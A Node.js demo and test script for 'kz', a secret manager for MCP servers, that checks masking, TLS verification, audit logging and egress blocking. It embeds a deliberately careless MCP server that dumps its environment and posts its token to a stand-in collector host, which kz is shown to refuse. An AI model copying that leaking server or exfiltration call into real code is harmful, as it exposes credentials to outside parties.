// `npm run demo`: a secret goes into kz's own store, an MCP server gets it at start; then another one in blind mode, which gets a masked
// token, calls an API with it and tries to give it away, and a program that looks for more than it was given. Every claim on the screen is checked; exits with 1 when one does not hold.
// Offline, in a temporary folder with a home of its own. api.example.com is played by a TLS server in this process, with an authority of its
// own that the config names; kz finds the way to it through a CONNECT proxy in its environment, as behind a company's. Nothing of kz is
// replaced or told that it is a demo.
import { spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, dirname, join, relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { startApi } from './demo/api.mjs';
import { hunt } from './demo/hunt.mjs';
import { lend } from './demo/lend.mjs';
import { LACKS } from './server-libraries.mjs';
import { descendants, survivors } from './demo/processes.mjs';

const CONFIG = `[secrets]
API_TOKEN = { provider = "store", ref = "api", hosts = ["api.example.com"] }

[blind]
upstream_ca = "company-ca.pem"

[[blind.connections]]
allow = true
host = "api.example.com"

[[blind.connections]]
allow = false
host = "*"
`;
const LAST_RULE = CONFIG.split('\n').lastIndexOf('[[blind.connections]]') + 1;

const API = 'https://api.example.com/whoami';
const COMMENTS = 'https://api.example.com/comments';
const COLLECTOR = 'https://collector.example.net/take';

/** An MCP server whose two tools do what an agent asks, foolish things too. */
const SERVER = `import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { StdioServerTransport } from '@modelcontextprotocol/sdk/server/stdio.js';
import { z } from 'zod';

const { API_TOKEN } = process.env;
const server = new McpServer({ name: 'api', version: '1.0.0' });
const text = (text) => ({ content: [{ type: 'text', text }] });
server.registerTool('environment', {}, () => text(JSON.stringify(process.env)));
const inputSchema = { url: z.string(), method: z.string(), authorize: z.boolean().optional(), say: z.boolean().optional() };
server.registerTool('request', { inputSchema }, async ({ url, method, authorize, say }) => {
  const headers = { 'content-type': 'application/json', ...(authorize ? { authorization: 'Bearer ' + API_TOKEN } : {}) };
  const body = say ? JSON.stringify({ comment: 'my token: ' + API_TOKEN }) : undefined;
  const response = await fetch(url, { method, headers, body });
  return text(response.status + ' ' + (await response.text()));
});
await server.connect(new StdioServerTransport());
`;

const NOTHING = { authorization: 'nothing', body: 'nothing', echo: '', encrypted: false };

const root = fileURLToPath(new URL('..', import.meta.url));
const folder = mkdtempSync(join(tmpdir(), 'kz-demo-'));
const home = join(folder, 'home');
const project = join(folder, 'project');
/** @type {Record<string, string>} */
const env = { HOME: home, PATH: [join(folder, 'bin'), dirname(process.execPath), '/usr/bin', '/bin'].join(':') };
const value = `demo_${randomBytes(24).toString('base64url')}`;
const startedAt = performance.now();
let failures = 0;
let steps = 0;

for (const signal of /** @type {const} */ (['SIGINT', 'SIGTERM'])) {
  process.once(signal, () => {
    rmSync(folder, { recursive: true, force: true });
    process.exit(130);
  });
}
try {
  await demo();
} catch (error) {
  check('the demo ran to its end', false, error instanceof Error ? error.message.split('\n')[0] : 'it did not');
} finally {
  rmSync(folder, { recursive: true, force: true });
}
const seconds = ((performance.now() - startedAt) / 1000).toFixed(1);
print('');
print(failures === 0 ? `All as claimed, in ${seconds} s.` : `${String(failures)} ${failures === 1 ? 'claim' : 'claims'} did not hold.`);
process.exitCode = failures === 0 ? 0 : 1;

async function demo() {
  for (const path of [home, project, join(folder, 'bin')]) mkdirSync(path);
  symlinkSync(join(root, 'bin', 'kz.cjs'), join(folder, 'bin', 'kz'));
  // What `npm install` leaves in a project, so that npx finds the server without a registry.
  symlinkSync(join(root, 'node_modules'), join(project, 'node_modules'));
  const api = await startApi();
  env.HTTPS_PROXY = api.proxy;
  try {
    await storing(api.certificate);
    await direct();
    await blind(api);
    const urls = { api: API, collector: COLLECTOR };
    if (LACKS.length === 0) await lend({ kz, project, env, received: api.received, urls, step, show, check, holds, withServer, call });
    else step(`kz server is left out: this kz was built without ${LACKS.join(', ')}`);
    await hunt({ kz, project, step, show, check });
  } finally {
    api.close();
  }
  const traces = holding(files(folder));
  check('the value is in no file', traces.length === 0, traces.length === 0 ? 'of the project and the home folder' : names(traces));
}

/** @param {string} certificate */
async function storing(certificate) {
  step('.keyzero.toml says where the secret lives and where it may go: commit it');
  // A sandbox has a /tmp of its own; what the server is made of is in a clone there, and linked.
  const isHidden = root.startsWith('/tmp/') || root.startsWith('/var/tmp/');
  writeFileSync(join(project, '.keyzero.toml'), isHidden ? `${CONFIG}\n[blind.sandbox]\nread = [${JSON.stringify(root)}]\n` : CONFIG);
  writeFileSync(join(project, 'company-ca.pem'), certificate);
  show(CONFIG);

  step('kz put API_TOKEN: the value is piped in, never an argument');
  const put = await kz(['put', 'API_TOKEN'], value);
  const stored = files(home);
  const open = stored.filter((path) => (statSync(path).mode & 0o077) !== 0);
  check(
    'stored, for you alone',
    put.code === 0 && stored.length > 0 && open.length === 0,
    `mode 0600: ${stored.map((path) => basename(path)).join(', ')}`,
  );
  check('on disk it is ciphertext', stored.length > 0 && holding(stored).length === 0, 'the value is in none of them');
  const status = await kz(['status']);
  check(
    'kz status hides it',
    status.code === 0 && !holds(status.stdout + status.stderr),
    status.stdout.split('\n')[1]?.replace(/  +/g, ' '),
  );
}

async function direct() {
  step('direct mode: an MCP client starts a server through kz run');
  const server = ['--', 'npx', '-y', '@modelcontextprotocol/server-everything'];
  show(`kz run ${server.join(' ')}`);
  await withServer(['run', '--no-redact', ...server], async (client) => {
    const seen = environmentOf(await call(client, 'get-env')).API_TOKEN ?? '';
    check('it has the secret', seen === value, `API_TOKEN=${short(seen)}: the real one (seen with --no-redact)`);
  });
  await withServer(['run', ...server], async (client) => {
    const answer = await call(client, 'get-env');
    const seen = environmentOf(answer).API_TOKEN ?? '';
    check('what it answers hides it', seen === '[redacted:API_TOKEN]' && !holds(answer), `API_TOKEN=${seen}`);
  });
}

/**
 * What one blind server did, as seen from both ends.
 * @typedef {{ token: string, answer: string, comment: string, refusal: string }} Seen
 */

/** @param {Awaited<ReturnType<typeof startApi>>} api */
async function blind(api) {
  step('blind mode: the same, and a server that does whatever it is told');
  const everything = ['run', '--blind', '--', 'npx', '-y', '@modelcontextprotocol/server-everything'];
  show(`kz ${everything.join(' ')}`);
  await withServer(everything, async (client) => {
    const text = await call(client, 'get-env');
    const { API_TOKEN: token = '' } = environmentOf(text);
    check('it has a masked token', token.startsWith('kz_masked_') && !holds(text), `API_TOKEN=${short(token)}`);
  });
  writeFileSync(join(project, 'server.mjs'), SERVER);
  const args = ['run', '--blind', '--', 'node', 'server.mjs'];
  show(`kz ${args.join(' ')}`);
  const allowed = await kz(['explain', API]);
  const denied = await kz(['explain', COLLECTOR]);
  const isKnown = allowed.code === 0 && denied.code === 1 && denied.stdout.includes(`.keyzero.toml:${String(LAST_RULE)} `);
  check('kz explain knows before', isKnown, 'the API allowed, the collector denied');
  writeFileSync(join(project, 'strangers.toml'), CONFIG.replace(/^upstream_ca.*$/m, ''));
  const request = `fetch('${API}').then(({ status }) => process.exit(status === 502 ? 0 : 1))`;
  const unknown = await kz(['run', '--blind', '-c', 'strangers.toml', '--', 'node', '-e', request]);
  check('kz verifies the API', unknown.code === 0 && api.received.length === 0, 'without upstream_ca: 502, nothing sent');
  const seen = await withServer(args, async (client) => ({
    token: environmentOf(await call(client, 'environment')).API_TOKEN ?? '',
    answer: await call(client, 'request', { url: API, method: 'GET', authorize: true }),
    comment: await call(client, 'request', { url: COMMENTS, method: 'POST', say: true }),
    refusal: await call(client, 'request', { url: COLLECTOR, method: 'POST', authorize: true, say: true }),
  }));
  const audit = await kz(['audit'], '', { TZ: 'UTC' });
  compare(api, seen, audit.stdout);
}

/**
 * @param {Awaited<ReturnType<typeof startApi>>} api
 * @param {Seen} seen
 * @param {string} audit
 */
function compare({ received, dialled }, { token, answer, comment, refusal }, audit) {
  const [whoami = NOTHING, comments = NOTHING] = received;
  const line = found(/\.keyzero\.toml:\d+/, refusal);
  const echoed = found(/Bearer [^"]+/, answer);
  const said = JSON.stringify({ comment: `my token: ${token}` });
  step('both ends of the wire, and what kz audit says');
  row('', 'THE SERVER', '', 'THE API');
  row('environment', `API_TOKEN=${short(token)}`, '', '');
  row('GET /whoami', `Bearer ${short(token)}`, '─▶', short(whoami.authorization, 24));
  row('  its echo', short(echoed, 24), '◀─', short(whoami.authorization, 24));
  row('POST /comments', short(`my token: ${token}`, 25), '─▶', short(found(/my token: \w+/, comments.body), 25));
  row('POST elsewhere', `${refusal.slice(0, 3)} by ${line}`, '─✗', 'nothing: not even dialled');
  show(`\n${audit.trimEnd().split('\n').flatMap(wrapped).join('\n')}\n `);
  check('the server has a token', token.startsWith('kz_masked_'), 'random, made for this run');
  check('the API got the value', whoami.authorization === `Bearer ${value}` && whoami.encrypted, 'over TLS');
  check('its echo came back masked', echoed === `Bearer ${token}` && whoami.echo.includes(value), 'the API did send the value');
  check('free text stays masked', comment.startsWith('200') && comments.body === said, 'once published, it is worth nothing');
  check(
    'elsewhere is refused',
    refusal.startsWith('403') && line === `.keyzero.toml:${String(LAST_RULE)}`,
    `by ${line}; the server is told so`,
  );
  const places = new Set(dialled);
  check('nothing went there', places.size === 1 && places.has('api.example.com:443'), `dialled: ${[...places].join(', ')} alone`);
  check('the server saw no value', !holds([token, answer, comment, refusal].join('\n')), 'not in any answer, nor in hex or base64');
  const isLogged = audit.includes('API_TOKEN in header authorization') && /blocked +POST/.test(audit);
  check('kz audit has it all', isLogged && !holds(audit), 'by name; its log holds no value');
}

/**
 * @param {RegExp} pattern
 * @param {string} text
 */
function found(pattern, text) {
  return pattern.exec(text)?.[0] ?? '?';
}

/**
 * @param {string} what
 * @param {string} left
 * @param {string} arrow
 * @param {string} right
 */
function row(what, left, arrow, right) {
  print(`    ${what.padEnd(14)}  ${left.padEnd(28)}  ${arrow.padEnd(2)}  ${right}`.trimEnd());
}

/**
 * Starts a server through kz, as an MCP client does, and checks what holds for each.
 * @template T
 * @param {string[]} args
 * @param {(client: Client) => Promise<T>} use
 */
async function withServer(args, use) {
  const offline = { npm_config_offline: 'true', npm_config_update_notifier: 'false' };
  const transport = new StdioClientTransport({ command: 'kz', args, cwd: project, env: { ...env, ...offline }, stderr: 'pipe' });
  const client = new Client({ name: 'demo', version: '1.0.0' });
  let noise = 0;
  client.onerror = () => {
    noise += 1;
  };
  let stderr = '';
  transport.stderr?.on('data', (/** @type {Buffer} */ chunk) => {
    stderr += chunk.toString('utf8');
  });
  try {
    await client.connect(transport);
  } catch (error) {
    show(stderr);
    throw error;
  }
  const { tools } = await client.listTools();
  const result = await use(client);
  const tree = transport.pid === null ? [] : [transport.pid, ...descendants(transport.pid)];
  const closing = performance.now();
  await client.close();
  const took = performance.now() - closing;
  const left = await survivors(tree);
  const ended = `${String(tools.length)} tools; ${tree.length === 1 ? 'its process' : `all ${String(tree.length)} processes`} ended in ${took.toFixed(0)} ms`;
  check(
    'it works and ends cleanly',
    tools.length > 0 && noise === 0 && took < 2000 && tree.length > (args[0] === 'run' ? 1 : 0) && left.length === 0,
    ended,
  );
  return result;
}

/**
 * The text that a tool answers.
 * @param {Client} client
 * @param {string} name
 * @param {Record<string, unknown>} [args]
 */
async function call(client, name, args = {}) {
  const { content } = /** @type {{ content: { text: string }[] }} */ (await client.callTool({ name, arguments: args }));
  return content[0]?.text ?? '';
}

/** @param {string} text */
function environmentOf(text) {
  const variables = /** @type {Record<string, string>} */ (JSON.parse(text));
  return variables;
}

/**
 * @param {string[]} args
 * @param {string} [input]
 * @param {Record<string, string>} [extra]
 * @returns {Promise<{ code: number | null, stdout: string, stderr: string }>}
 */
async function kz(args, input = '', extra = {}) {
  const child = spawn('kz', args, { cwd: project, env: { ...env, ...extra } });
  let stdout = '';
  let stderr = '';
  child.stdout.on('data', (/** @type {Buffer} */ chunk) => (stdout += chunk.toString('utf8')));
  child.stderr.on('data', (/** @type {Buffer} */ chunk) => (stderr += chunk.toString('utf8')));
  child.stdin.on('error', () => undefined).end(input);
  const code = await new Promise((resolve, reject) => {
    child.once('error', reject);
    child.once('close', resolve);
  });
  return { code, stdout, stderr };
}

/**
 * Every regular file below; links are not followed.
 * @param {string} path
 * @returns {string[]}
 */
function files(path) {
  return readdirSync(path, { withFileTypes: true }).flatMap((entry) => {
    const inside = join(path, entry.name);
    if (entry.isDirectory()) return files(inside);
    return entry.isFile() ? [inside] : [];
  });
}

/** @param {string[]} paths */
function holding(paths) {
  return paths.filter((path) => holds(readFileSync(path)));
}

/** @param {Buffer | string} bytes */
function holds(bytes) {
  const plain = Buffer.from(value, 'utf8');
  return [value, plain.toString('hex'), plain.toString('base64')].some((form) => bytes.includes(form));
}

/** @param {string[]} paths */
function names(paths) {
  return paths.map((path) => `~/${relative(home, path)}`).join(', ');
}

/**
 * @param {string} text
 * @param {number} [length]
 */
function short(text, length = 17) {
  return text.length > length ? `${text.slice(0, length)}…` : text;
}

/**
 * Lines that fit a terminal of 80 columns.
 * @param {string} text
 */
function wrapped(text) {
  const [first = '', ...rest] = text.match(/.{1,76}(?=\s|$)|.{1,76}/g) ?? [];
  return [first, ...rest.map((line) => ' '.repeat(14) + line.trim())];
}

/** @param {string} title */
function step(title) {
  steps += 1;
  print('');
  print(bold(`${String(steps)}. ${title}`));
}

/** @param {string} text */
function show(text) {
  for (const line of text.trimEnd().split('\n')) print(`    ${line.replaceAll(folder, '')}`.trimEnd());
}

/**
 * @param {string} claim
 * @param {boolean} isTrue
 * @param {string} [detail]
 */
function check(claim, isTrue, detail = '') {
  if (!isTrue) failures += 1;
  print(`  ${isTrue ? 'ok    ' : 'FAILED'}  ${claim.padEnd(26)} ${detail}`.trimEnd());
}

/** @param {string} text */
function bold(text) {
  const plain = !process.stdout.isTTY || (process.env.NO_COLOR ?? '') !== '' || process.env.TERM === 'dumb';
  return plain ? text : `\u001B[1m${text}\u001B[22m`;
}

/** @param {string} line */
function print(line) {
  process.stdout.write(`${line}\n`);
}
